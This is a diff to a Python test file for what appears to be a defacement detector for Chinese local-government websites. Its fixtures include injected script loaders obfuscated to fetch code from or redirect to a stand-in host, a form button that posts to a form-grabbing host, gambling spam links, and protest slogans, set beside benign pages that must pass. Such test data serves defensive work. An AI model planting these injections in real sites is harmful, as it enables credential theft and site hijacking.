@@ -31,6 +31,9 @@ def keys(outcome):
         (injected, "<script>window['loc'+'ation']['hr'+'ef']='//x.formgrab.net'</script>", "loader"),
         (injected, "<script>s.src='//'+['x','formgrab','net'].join('.')+'/a.js'</script>", "loader"),
         (injected, '<script type="importmap">{"imports":{"a":"https://x.formgrab.net/a.js"}}</script>', "loader"),
+        (injected, '<a href="http://x.formgrab.top/43.html">示例县召开安全生产工作会议</a>', "links"),
+        (replaced, "<p>打倒某某 某某下台</p>", "slogan"),
+        (replaced, "<p>负责防治水旱灾害。本局领导集体贪污，欢迎举报。</p>", "slogan"),
         (injected, '<a href="http://www.aomen88.com/">百家乐开户</a>', "advert"),
         (title, "<script>document.title='欧亿注册'</script>", "scripted"),
         (injected, '<form><button formaction="http://grab.formgrab.net/p">x</button></form>', "form"),
@@ -68,7 +71,10 @@ def test_what_a_defacer_adds_is_asked_about(compared, made, check, added, key):
         '<a href="/upload/2026/biao.zip">下载</a><a href="http://www.partner.com/a.zip">下载</a>',
         '<a href="https://zwfw.sd.gov.cn/">政务服务</a><a href="http://www.partner.com/">合作单位</a>',
         '<div style="display:none">您访问的链接即将离开本网站</div>',
-        '<div style="font-size:60px">热烈庆祝教师节</div><p style="font-size:16px">打倒贪官污吏</p>',
+        '<div style="font-size:60px">热烈庆祝教师节</div><p style="font-size:16px">同胞们觉醒吧</p>',
+        "<p>示例县革命历史纪念馆展出“打倒军阀”等标语</p>",
+        "<p>县纪委监委通报：原局长王某受贿案一审宣判</p>",
+        '<a href="http://www.partner.cc/">合作单位</a>',
         '<div style="display:none;font-size:60px">同胞们觉醒吧</div>',
         '<div style="font-size:60px"><a href="/art/9.html">同胞们觉醒吧</a></div>',
         "<style>.k{font-size:60px}</style>",
@@ -177,3 +183,17 @@ def test_headlines_that_differ_by_a_number_are_asked_about(compared, made, words
 def test_such_headlines_as_offices_write_are_left_alone(compared, made, words):
     rows = "".join(f'<p><a href="/x/{at}.html">{one}</a></p>' for at, one in enumerate(headlines(words)))
     assert "series" not in keys(compared(replaced, made.page(9, body=rows)))
+
+
+def test_a_slogan_that_was_approved_is_left_alone(compared, made):
+    body = "<p>展品：打倒某某传单</p>"
+    assert compared(replaced, made.page(9, body=body), made.page(body=body)).status is Status.PASS
+
+
+def test_another_filing_number_is_asked_about(compared, made):
+    assert keys(compared(replaced, made.page(9).replace("12345678", "99999999"))) == ["filing"]
+
+
+@pytest.mark.parametrize("foot", ["主办：示例县教育和体育局　京ICP备12345678号-1　网站标识码：1101000001", ""])
+def test_a_footer_without_numbers_or_with_the_same_is_left_alone(compared, made, foot):
+    assert compared(replaced, made.page(9, foot=foot)).status is Status.PASS
